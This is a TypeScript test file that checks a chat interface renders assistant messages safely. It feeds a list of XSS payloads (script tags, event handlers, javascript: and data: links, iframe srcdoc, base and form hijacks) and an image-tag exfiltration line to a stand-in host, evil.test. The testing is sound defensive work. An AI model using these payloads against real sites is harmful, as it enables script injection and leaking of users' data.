import { afterAll, beforeAll, expect, it } from 'vitest';
import { ChatBrowser, type ChatPage } from './chatPage.ts';
import { assistant, cite, user } from './conversations.ts';

let browser: ChatBrowser;
let chat: ChatPage;

beforeAll(async () => {
  browser = await ChatBrowser.launch();
  chat = await browser.open();
});
afterAll(async () => {
  await browser.close();
});

const attacks = [
  '<script>window.hacked = 1</script>',
  '<img src=x onerror="window.hacked = 1">',
  '<svg onload="window.hacked = 1"><a xlink:href="javascript:window.hacked=1"><text>x</text></a></svg>',
  '<iframe srcdoc="<script>parent.hacked = 1</script>"></iframe>',
  '<math><mtext><style><img src=x onerror="window.hacked = 1"></style></mtext></math>',
  '<details open ontoggle="window.hacked = 1"><summary>x</summary></details>',
  '[click](javascript:window.hacked=1)',
  '[click](JaVa&#115;cript:window.hacked=1)',
  '[click](<javascript:window.hacked=1>)',
  '[click](command:workbench.action.terminal.new)',
  '[click](vscode://evil/x)',
  '[click](file:///etc/passwd)',
  '[click](data:text/html,<script>window.hacked=1</script>)',
  '[x]: javascript:window.hacked=1\n\n[click][x]',
  '[a](https://x.test "\\" onmouseover=window.hacked=1 \\"")',
  '![pixel](https://evil.test/leak.png?secret=1)',
  '![" onerror="window.hacked=1](x)',
  '`<img src=x onerror="window.hacked = 1">`',
  '```html\n<script>window.hacked = 1</script>\n<img src=x onerror="window.hacked = 1">\n```',
  '```"><img src=x onerror=window.hacked=1>\ncode\n```',
  '- ```<b>\n  <img src=x onerror="window.hacked = 1">\n  ```',
  '| <img src=x onerror="window.hacked = 1"> |\n|---|\n| <script>window.hacked=1</script> |',
  '<button data-citation="1" onclick="window.hacked = 1">x</button>',
  '<style>body { display: none }</style>',
  '<base href="https://evil.test/"><form action="https://evil.test/"><input name=x></form>',
];

it.each(attacks)('attack: %s is inert, at once and in parts', async (attack) => {
  await chat.sendState({ messages: [user('q'), assistant('', { id: 's', state: 'streaming' })] });
  for (const character of attack) await chat.call('append', { messageId: 's', text: character });
  await chat.append('s', '\n\n');
  await chat.sendState({ messages: [user(attack), assistant(attack, { note: attack, state: 'failed' })] });

  const answer = chat.page.locator('.message');
  expect(await answer.locator('script, img, iframe, style, form, base, object, math, details').count()).toBe(
    0,
  );
  expect(await answer.locator('svg:not(.icon), [data-citation]').count()).toBe(0);
  const links = await answer.locator('a').evaluateAll(hrefs);
  for (const link of links) expect(link).toMatch(/^https:/);
  expect(await answer.evaluateAll(countHandlers)).toBe(0);
  expect(await chat.page.evaluate('window.hacked')).toBeUndefined();
  expect(chat.problems).toEqual([]);
});

it('attack: shows raw HTML as the text that it is', async () => {
  await chat.sendState({ messages: [user('q'), assistant('Use <b>bold</b> and\n\n<div>x</div>')] });
  expect(await chat.page.locator('.answer').innerText()).toContain('Use <b>bold</b> and');
  expect(await chat.page.locator('.answer').innerText()).toContain('<div>x</div>');
});

it('attack: treats the path of a source as text', async () => {
  const path = '"><img src=x onerror="window.hacked = 1">.ts';
  await chat.sendState({ messages: [user('q'), assistant('x [1]', { citations: [cite(1, path, 1, 2)] })] });
  expect(await chat.page.locator('.message img').count()).toBe(0);
  expect(await chat.page.locator('.answer button').getAttribute('aria-label')).toContain(path);
});

it('attack: runs no script that is not ours', async () => {
  await chat.page.evaluate(
    `document.body.append(Object.assign(document.createElement('script'), { textContent: 'window.hacked = 1' }))`,
  );
  expect(await chat.page.evaluate('window.hacked')).toBeUndefined();
  expect(chat.problems.join()).toContain('Content Security Policy');
});

interface PageElement {
  getAttribute(name: string): string | null;
  getAttributeNames(): string[];
  querySelectorAll(selector: string): Iterable<PageElement>;
}

function hrefs(links: PageElement[]): (string | null)[] {
  return links.map((link) => link.getAttribute('href'));
}

function countHandlers(messages: PageElement[]): number {
  return messages
    .flatMap((message) => [...message.querySelectorAll('*')])
    .flatMap((element) => element.getAttributeNames())
    .filter((name) => name.startsWith('on') || name === 'style' || name === 'srcdoc').length;
}
